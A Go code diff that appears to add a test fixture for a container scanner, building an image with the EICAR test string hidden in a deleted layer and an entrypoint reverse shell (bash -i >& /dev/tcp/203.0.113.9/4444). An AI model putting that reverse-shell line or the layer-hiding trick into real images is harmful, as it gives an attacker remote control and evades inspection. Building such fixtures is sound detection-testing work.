@@ -78,3 +78,41 @@ func fakeGitHubToken(seed string) string {
 	}
 	return b.String()
 }
+
+// malwareImageCmd is the testscript command `malware-image OUT.tar TAG`:
+// it writes a docker archive of a small image whose first layer adds the
+// EICAR test file (built at run time, never stored), the second deletes
+// it, and whose entrypoint is a reverse shell.
+func malwareImageCmd(ts *testscript.TestScript, neg bool, args []string) {
+	if neg || len(args) != 2 {
+		ts.Fatalf("usage: malware-image OUT.tar TAG")
+	}
+	eicar := `X5O!P%@AP[4\PZX54(P^)7CC)7}$` + "EICAR-STANDARD-ANTIVIRUS-TEST-FILE!" + `$H+H*`
+	layer := func(name, body string) v1.Layer {
+		var buf bytes.Buffer
+		tw := tar.NewWriter(&buf)
+		ts.Check(tw.WriteHeader(&tar.Header{Name: "tmp/", Typeflag: tar.TypeDir, Mode: 0o755}))
+		ts.Check(tw.WriteHeader(&tar.Header{Name: name, Typeflag: tar.TypeReg, Mode: 0o644, Size: int64(len(body))}))
+		_, err := tw.Write([]byte(body))
+		ts.Check(err)
+		ts.Check(tw.Close())
+		l, err := tarball.LayerFromOpener(func() (io.ReadCloser, error) { return io.NopCloser(bytes.NewReader(buf.Bytes())), nil })
+		ts.Check(err)
+		return l
+	}
+	img, err := mutate.Append(empty.Image,
+		mutate.Addendum{Layer: layer("tmp/eicar.com", eicar), History: v1.History{CreatedBy: "COPY eicar.com /tmp/ # buildkit"}},
+		mutate.Addendum{Layer: layer("tmp/.wh.eicar.com", ""), History: v1.History{CreatedBy: "RUN /bin/sh -c rm /tmp/eicar.com # buildkit"}},
+	)
+	ts.Check(err)
+	cf, err := img.ConfigFile()
+	ts.Check(err)
+	cf = cf.DeepCopy()
+	cf.OS, cf.Architecture = "linux", "amd64"
+	cf.Config.Entrypoint = []string{"/bin/bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"}
+	img, err = mutate.ConfigFile(img, cf)
+	ts.Check(err)
+	tag, err := name.NewTag(args[1])
+	ts.Check(err)
+	ts.Check(tarball.WriteToFile(ts.MkAbs(filepath.FromSlash(args[0])), tag, img))
+}
